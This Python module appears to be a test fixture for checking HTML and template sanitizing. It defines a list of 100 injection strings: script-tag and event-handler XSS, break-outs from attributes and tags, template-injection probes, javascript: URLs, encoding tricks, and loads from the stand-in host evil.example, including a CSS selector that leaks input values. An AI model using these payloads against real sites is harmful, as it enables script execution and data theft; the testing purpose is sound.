"""A hundred texts that would do something on a page that read them as markup, as a template, or as more than a text.

What would run sets `window.pwned`, opens a dialog, or asks another host.
"""

from __future__ import annotations

_RUN = "window.pwned=1"
_HOST = "http://evil.example"

_SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT\t>",
    f"<script src={_HOST}/x.js></script>",
    f'<script type=module>import "{_HOST}/x.js"</script>',
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"</script><script>{_RUN}</script>",
    f"<script/x>{_RUN}//</script",
    f"\x0c<script\x0c >{_RUN}</script>",
    f"<noscript><p title='</noscript><script>{_RUN}</script>'>",
    f"<template><script>{_RUN}</script></template>",
)
_HANDLERS = tuple(
    f"<{tag}={_RUN}>"
    for tag in (
        "img src=x onerror",
        "IMG/SRC=x/ONERROR",
        "img src=x\nonerror",
        "img src=`x` onerror",
        "body onload",
        "svg onload",
        "svg/onload",
        "video src=x onerror",
        "audio src=x onerror",
        "video><source onerror",
        "input autofocus onfocus",
        "select autofocus onfocus",
        "textarea autofocus onfocus",
        "details open ontoggle",
        "marquee onstart",
        "object data=x onerror",
        "style onload",
        "iframe onload",
        "div style=position:fixed;inset:0 onpointerover",
        "p style=animation:x onanimationstart",
    )
)
_ELEMENTS = (
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href={_HOST}/x.js /></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a href=javascript:{_RUN}><text y=20>x</text></a></svg>",
    f"<svg><use href='{_HOST}/x.svg#x'/></svg>",
    f"<svg><foreignObject><iframe src=javascript:{_RUN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<math href=javascript:{_RUN}><mi>x</mi></math>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_RUN}></iframe>",
    f"<iframe src={_HOST}></iframe>",
    f"<object data={_HOST}/x.svg></object>",
    f"<embed src={_HOST}/x.swf>",
    f"<base href={_HOST}/>",
    f"<meta http-equiv=refresh content='0;url={_HOST}'>",
    f"<form action={_HOST}><button autofocus>Send",
    f"<link rel=prefetch href={_HOST}/x>",
    f"<img src={_HOST}/x.png srcset={_HOST}/y.png>",
    f"<video poster={_HOST}/x.png autoplay>",
    f"<a href=javascript:{_RUN} autofocus>x</a>",
)
_STYLES = (
    f"<style>@import '{_HOST}/x.css'</style>",
    f"<style>*{{background:url({_HOST}/x)}}</style>",
    "<style>body{display:none}</style>",
    f"<link rel=stylesheet href={_HOST}/x.css>",
    f"<div style='background:url({_HOST}/x)'>x",
    f"}}</style><style>input[value^=a]{{background:url({_HOST}/a)}}",
    "x{}*{visibility:hidden}/*",
    "<b style='font-size:9999px'>large",
)
_BREAK_OUTS = (
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'" onfocus={_RUN} autofocus x="',
    f"' onfocus={_RUN} autofocus x='",
    f"` onfocus={_RUN} autofocus x=`",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</select></option><img src=x onerror={_RUN}>",
    f"</table></td><img src=x onerror={_RUN}>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"--><script>{_RUN}</script><!--",
    f"<![CDATA[><script>{_RUN}</script>]]>",
    f"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml' onload={_RUN}/>",
    f'\\"}});{_RUN};//',
    f"';{_RUN};//",
)
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{# gone #}",
    f"${{{_RUN}}}",
    f"<%= {_RUN} %>",
    "#{7*7} *{7*7} @(7*7)",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    "%s %n %(name)s {0} {name}",
)
_ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}//{_HOST}",
    f"java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"![picture]({_HOST}/x.png)",
    f"[click](javascript:{_RUN})",
    f"<{_HOST}/x>",
)
_CHARACTERS = (
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    "a\u202eb\u2066c\u200fd",
    "a\u200bb\u200dc\ufeffd\u00ade",
    f"//\u2028{_RUN}\u2029{_RUN}",
    "a\x01b\x7fc\x85d\x9fe",
    "\x1b[31mred\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "x" * 500,
    "Z" + "\u0310\u0321\u0489" * 30,
)

HOSTILE = (
    *_SCRIPTS,
    *_HANDLERS,
    *_ELEMENTS,
    *_STYLES,
    *_BREAK_OUTS,
    *_TEMPLATES,
    *_ADDRESSES,
    *_CHARACTERS,
)
